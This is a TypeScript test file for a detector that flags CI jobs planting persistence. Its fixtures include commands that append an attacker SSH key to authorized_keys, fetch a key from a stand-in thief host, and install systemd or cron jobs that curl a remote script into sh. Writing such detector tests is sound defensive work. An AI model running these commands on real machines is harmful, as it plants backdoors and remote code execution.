import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isMalicious, jobThatRuns, THIEF } from '../../test/stolen-script.ts'

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3m0qXw9vYk m'

test('a key that stands in the file, or comes from an address, is a way in', async () => {
  for (const run of [
    `echo '${KEY}' >> ~/.ssh/authorized_keys`,
    `echo '${KEY}' | sudo tee -a /root/.ssh/authorized_keys`,
    `curl -s ${THIEF}/k.pub >> ~/.ssh/authorized_keys`,
    'ssh-import-id gh:someone',
  ])
    assert.ok(await isMalicious(jobThatRuns(run)), run)
})

test('a key that the job makes for itself is none', async () => {
  for (const run of [
    'ssh-keygen -t ed25519 -N "" -f ~/.ssh/id\ncat ~/.ssh/id.pub >> ~/.ssh/authorized_keys',
    `echo '${KEY}' > deploy/known.pub`,
    `echo "\${{ secrets.PUBLIC_KEY }}" >> ~/.ssh/authorized_keys`,
  ])
    assert.equal(await isMalicious(jobThatRuns(run)), false, run)
})

test('what the machine runs later is run by whoever wrote it', async () => {
  const unit = (line: string) =>
    `printf '[Service]\\nExecStart=${line}\\n' | sudo tee /etc/systemd/system/a.service\nsudo systemctl enable --now a`
  assert.ok(await isMalicious(jobThatRuns(unit('/bin/bash -c "curl http://192.0.2.1/a|sh"'))))
  assert.equal(await isMalicious(jobThatRuns(unit('/usr/bin/node server.js'))), false)
  assert.ok(await isMalicious(jobThatRuns(`echo '*/5 * * * * root curl http://192.0.2.1/a | sh' | sudo tee /etc/cron.d/a`)))
})
